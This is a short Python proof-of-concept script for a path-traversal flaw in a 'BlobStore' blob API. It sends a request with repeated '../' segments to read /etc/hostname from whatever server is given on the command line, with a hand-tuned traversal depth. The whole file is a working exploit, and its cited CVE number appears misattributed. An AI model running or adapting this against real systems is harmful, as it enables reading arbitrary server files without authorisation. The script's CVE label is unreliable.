"""Proof of concept for CVE-2024-32002 (BlobStore blob-name traversal).

The traversal depth below is a guess. The request may fail when the
store lives under a deeper prefix; adjust DEPTH by hand if the first
attempt comes back empty.
"""

import sys

import requests

DEPTH = 6


def main() -> None:
    base = sys.argv[1]
    name = "../../" * DEPTH + "etc/hostname"
    resp = requests.get(f"{base}/api/blob", params={"name": name}, timeout=10)
    print(resp.status_code)
    print(resp.text)


if __name__ == "__main__":
    main()
